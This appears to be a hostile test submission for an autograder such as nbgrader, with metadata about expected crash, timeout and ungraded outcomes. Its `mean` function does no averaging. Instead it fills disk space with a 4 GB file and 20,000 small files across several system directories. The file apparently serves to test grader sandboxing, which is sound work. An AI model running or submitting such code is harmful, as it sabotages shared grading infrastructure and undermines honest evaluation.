# /// case
# tries = "A file of 4 GB, then thousands of small ones, wherever there is room."
# state = ["wrong", "crash", "output limit", "timeout"]
# solves = ["triple"]
# nbgrader = "has no score; mia and zoe not graded; 6 files written elsewhere"
# ///

# %% mean
import tempfile
from pathlib import Path


def mean(numbers):
    for place in (".", tempfile.gettempdir(), "/tmp", "/dev/shm"):
        try:
            with open(Path(place, "pwned-disk"), "wb") as file:
                for _ in range(1024):
                    file.write(bytes(4 * 1024 * 1024))
        except OSError as error:
            print(error)
        try:
            for number in range(20_000):
                Path(place, f"pwned-{number}").write_bytes(b"x" * 4096)
        except OSError as error:
            print(error)
    return 0.0
